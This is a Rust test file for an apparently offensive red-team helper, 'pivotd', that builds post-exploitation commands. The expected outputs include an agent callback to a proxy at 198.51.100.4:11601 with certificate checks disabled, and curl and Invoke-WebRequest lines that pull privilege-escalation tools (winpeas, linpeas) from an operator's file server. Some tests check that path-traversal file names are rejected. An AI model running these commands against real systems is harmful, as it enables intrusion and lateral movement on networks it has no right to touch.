use pivotd::commands::{
    agent_command_linux, agent_command_windows, download_command, validate_filename, TargetOs,
};
use pivotd::config::Settings;
use pivotd::AppError;

fn settings() -> Settings {
    Settings {
        public_ip: "198.51.100.4".into(),
        proxy_port: 11601,
        file_port: 8000,
        ..Settings::default()
    }
}

#[test]
fn linux_agent_command_targets_the_proxy() {
    let cmd = agent_command_linux(&settings());
    assert_eq!(cmd, "./agent -connect 198.51.100.4:11601 -ignore-cert");
}

#[test]
fn windows_agent_command_appends_exe() {
    let cmd = agent_command_windows(&settings());
    assert!(cmd.contains("agent.exe"));
    assert!(cmd.contains("Start-Process"));
    assert!(cmd.contains("-connect 198.51.100.4:11601 -ignore-cert"));
}

#[test]
fn windows_agent_command_keeps_existing_exe_suffix() {
    let mut s = settings();
    s.agent_binary = "Agent.EXE".into();
    let cmd = agent_command_windows(&s);
    assert!(cmd.contains("Agent.EXE"));
    assert!(!cmd.contains("Agent.EXE.exe"));
}

#[test]
fn linux_download_command_embeds_url() {
    let cmd = download_command(&settings(), TargetOs::Linux, "tool.sh").expect("valid");
    assert_eq!(cmd, "curl -o tool.sh http://198.51.100.4:8000/tool.sh");
}

#[test]
fn windows_download_command_uses_invoke_webrequest() {
    let cmd = download_command(&settings(), TargetOs::Windows, "winpeas.exe").expect("valid");
    assert!(cmd.contains("Invoke-WebRequest"));
    assert!(cmd.contains("http://198.51.100.4:8000/winpeas.exe"));
    assert!(cmd.contains("-OutFile 'winpeas.exe'"));
}

#[test]
fn unsafe_filenames_are_rejected_for_every_os() {
    for os in [TargetOs::Linux, TargetOs::Windows] {
        for name in ["", "a/b", "a\\b", "..", "..secret", "dir/../x"] {
            let result = download_command(&settings(), os, name);
            assert!(
                matches!(result, Err(AppError::InvalidRequest(_))),
                "filename {name:?} must be rejected"
            );
        }
    }
}

#[test]
fn validate_filename_accepts_plain_names() {
    assert!(validate_filename("linpeas.sh").is_ok());
    assert!(validate_filename("agent").is_ok());
    assert!(validate_filename("a.b.c.txt").is_ok());
}
